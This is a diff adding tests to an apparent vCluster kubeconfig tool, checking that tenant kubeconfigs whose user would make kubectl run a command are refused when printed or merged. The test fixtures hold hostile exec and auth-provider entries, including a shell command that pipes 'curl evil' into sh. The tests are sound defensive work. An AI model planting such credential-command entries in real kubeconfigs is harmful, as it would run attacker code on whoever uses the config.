@@ -8,6 +8,7 @@ import {
   markerOf,
   mergedKubeconfig,
   mergeIntoFile,
+  refuseCredentialCommands,
   retargeted,
   TENANT_EXTENSION,
   type KubeconfigDocument,
@@ -82,6 +83,28 @@ describe("retargeted", () => {
     const error = thrownBy(() => retargeted(text, { contextName: "atlas" }));
     expect(error).toBeInstanceOf(CliError);
     expect(error.message).toBe("the tenant's kubeconfig has no complete context (cluster, user)");
+  });
+});
+
+/** Tenant kubeconfigs whose user would have kubectl run a command: a vCluster never issues them. */
+const commandUsers: [string, string][] = [
+  ["exec", "user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil | sh']}}"],
+  ["auth-provider", "user: {auth-provider: {name: gcp, config: {cmd-path: /bin/sh, cmd-args: -c id}}}"],
+];
+
+describe("refuseCredentialCommands", () => {
+  it.each(commandUsers)("refuses a user with %s, on the print path too (retargeted)", (field, user) => {
+    const text = tenantKubeconfig.replace("user: {client-certificate-data: Q0VSVA==, client-key-data: S0VZ}", user);
+    for (const action of [() => retargeted(text, { contextName: "atlas" }), () => refuseCredentialCommands(parse(text) as KubeconfigDocument)]) {
+      const error = thrownBy(action);
+      expect(error).toBeInstanceOf(CliError);
+      expect(error.message).toContain(`has user vcluster_atlas_admin get its credentials by running a command (${field})`);
+      expect(error.message).toContain("neither prints nor merges it");
+    }
+  });
+
+  it("lets certificates and tokens through", () => {
+    expect(() => refuseCredentialCommands(parse(tenantKubeconfig) as KubeconfigDocument)).not.toThrow();
   });
 });
 
@@ -205,6 +228,13 @@ describe("mergeIntoFile", () => {
     expect(after).toContain("- cluster:\n    certificate-authority-data: Q0E=\n    server: https://prod.example.com:6443 # the VIP\n    port: 0123\n  name: prod\n");
     expect(after).toContain("- name: prod\n  user:\n    token: 0123456789\n");
     expect((parse(after) as KubeconfigDocument).contexts).toEqual([expect.objectContaining({ name: "prod", context: expect.objectContaining({ cluster: "kubespaces_atlas" }) })]);
+  });
+
+  it.each(commandUsers)("refuses an addition whose user has %s, changing nothing", (field, user) => {
+    writeFileSync(file, userText);
+    const bad: KubeconfigDocument = { ...addition, users: [{ name: "kubespaces_atlas", user: { ...parse(`{${user}}`).user, extensions: atlasMarker } }] };
+    expect(thrownBy(() => mergeIntoFile(file, bad)).message).toContain(`running a command (${field})`);
+    expect(readFileSync(file, "utf8")).toBe(userText);
   });
 
   it.each([
